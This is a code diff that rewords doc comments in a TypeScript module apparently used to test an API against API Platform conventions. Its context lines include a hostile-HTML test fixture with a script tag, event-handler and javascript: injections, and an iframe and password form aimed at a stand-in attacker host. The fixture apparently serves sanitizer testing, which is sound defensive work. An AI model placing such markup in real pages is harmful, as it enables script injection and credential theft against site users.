@@ -11,11 +11,11 @@ const ELSEWHERE = "https://api.example/v2";
 const INSTANT = /^(\d{4}-\d\d-\d\dT[\d:.]+)Z$/;
 /** Texts that are HTML by the contract. */
 const HTML_KEY = /^(content|description|biography)(En|Fr)?$/;
-/** What editors may have put into a text, and nobody took out. */
+/** Markup that editors may have put into a text, and nobody took out. */
 export const HOSTILE_HTML =
   '<script>window.hostile=1</script><style>main{display:none}</style><iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="password"><button>Go</button></form><p style="position:fixed" class="hostile" onclick="window.hostile=1">hostile words</p><a href="javascript:window.hostile=1">hostile link</a><img src="x" onerror="window.hostile=1">';
 
-/** What API Platform does where ours does otherwise, by default or by a setting of the house. */
+/** Habits of API Platform that ours does not have, by default or by a setting of the house. */
 export const HABITS = {
   "leaves out what is null": (key, value) => (value === null ? [] : [[key, value]]),
   "writes no prefix": (key, value) => [[key.replace(/^hydra:/, ""), unprefixed(value)]],
@@ -49,7 +49,7 @@ export const NAMINGS = {
     key === "id" && "@id" in whole ? [] : [[key, renamed(key, value, slugOf)]],
 } satisfies Record<string, Habit>;
 
-/** What only ours says of a sound, most of it measured by us. */
+/** The fields of a sound that only ours has, most of them measured by us. */
 const OF_SOUNDS = new Set("analysis durationSeconds estimated loudness nameLang truePeak".split(" "));
 
 /** Ours alone has carts and lists that hold versions, says which state of them it is, and measures sounds. */
@@ -81,7 +81,7 @@ const slugOf = (id: string) => `entry-${id}`;
 const OWN_NAME = /(?:018f3c2a-7b1e-7c3d-9a4b-0*|entry-)(\d+)/g;
 const NUMBER_IN_ADDRESS = /^(\/api\/(?:[a-z_]+\/)+)(\d+)(?=$|[/?])/;
 
-/** What that backend calls by a name of its own, by the number that it has with us. */
+/** Returns the text with our numbers in place of that backend's own names. */
 export const numbered = (text: string): string => text.replace(OWN_NAME, "$1");
 
 function renamed(key: string, value: unknown, nameOf: (id: string) => string): unknown {
